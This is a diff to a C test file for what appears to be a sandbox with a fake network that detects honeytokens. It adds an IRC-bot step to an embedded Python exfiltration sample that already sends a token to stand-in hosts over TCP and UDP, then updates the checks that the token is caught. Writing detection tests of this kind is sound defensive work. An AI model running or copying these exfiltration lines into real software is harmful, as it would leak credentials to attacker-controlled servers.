@@ -252,6 +252,17 @@ static const char exfil_script[] =
     "s = socket.create_connection(('198.51.100.24', 4445), timeout=10)\n"
     "s.sendall(b'{\"d\":\"' + base64.b64encode(base64.b64encode(json.dumps({'env': {'K': tok}}).encode())) + b'\"}')\n"
     "s.close()\n"
+    "irc = socket.create_connection(('198.51.100.25', 6667), timeout=10)\n"
+    "irc.sendall(b'NICK bot7\\r\\nUSER bot7 0 * :bot7\\r\\n')\n"
+    "got = b''\n"
+    "while b' 376 ' not in got:\n"
+    "    d = irc.recv(4096)\n"
+    "    if not d: break\n"
+    "    got += d\n"
+    "if b' 001 bot7 ' in got:\n"
+    "    irc.sendall(b'JOIN #c\\r\\nPRIVMSG #c :k=' + tok.encode() + b'\\r\\nQUIT\\r\\n')\n"
+    "print('IRC', b' 001 bot7 ' in got)\n"
+    "irc.close()\n"
     "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
     "u.sendto(b'UDP:' + tok.encode().hex().encode(), ('203.0.113.5', 9999))\n"
     "u.close()\n"
@@ -637,6 +648,14 @@ static int scenario_exfil(pt_tok_scanner *tokens, const char *tok) {
                        "base64/base64", "where", "tcp:198.51.100.24:4445")) != NULL,
         "a JSON base64'd twice: decoded and scanned again");
 
+  /* An IRC bot that waits for the server's welcome before it talks. */
+  CHECK(strstr(out, "IRC True\n") != NULL,
+        "an IRC client's registration is answered with the welcome");
+  CHECK(find(events, "honeytoken",
+             json_pack("{s:s,s:s,s:s}", "token", "test_token", "encoding",
+                       "raw", "where", "tcp:198.51.100.25:6667")) != NULL,
+        "the token its PRIVMSG sent after the welcome");
+
   /* 4. A UDP datagram. */
   json_t *udp = find(events, "net",
                      json_pack("{s:s,s:s,s:s,s:i,s:i}", "proto", "udp",
@@ -721,7 +740,7 @@ static int scenario_exfil(pt_tok_scanner *tokens, const char *tok) {
         "name_for(198.51.100.23) = NULL");
   struct pt_fakenet_stats st;
   pt_fakenet_stats(ctx.fn, &st);
-  CHECK(st.conns_refused == 0 && st.sockets == 0 && st.tcp_conns >= 7,
+  CHECK(st.conns_refused == 0 && st.sockets == 0 && st.tcp_conns >= 8,
         "stats: %llu connections, none refused, every socket closed",
         (unsigned long long)st.tcp_conns);
   /* Nothing but what the sample did. */
@@ -731,7 +750,7 @@ static int scenario_exfil(pt_tok_scanner *tokens, const char *tok) {
     if (strcmp(str(e, "kind"), "net") == 0)
       nnet++;
   }
-  CHECK(nnet == 7, "exactly 7 net events (got %zu)", nnet);
+  CHECK(nnet == 8, "exactly 8 net events (got %zu)", nnet);
 
 
   /* 10. The next phase: the same fake network in a new jail. */
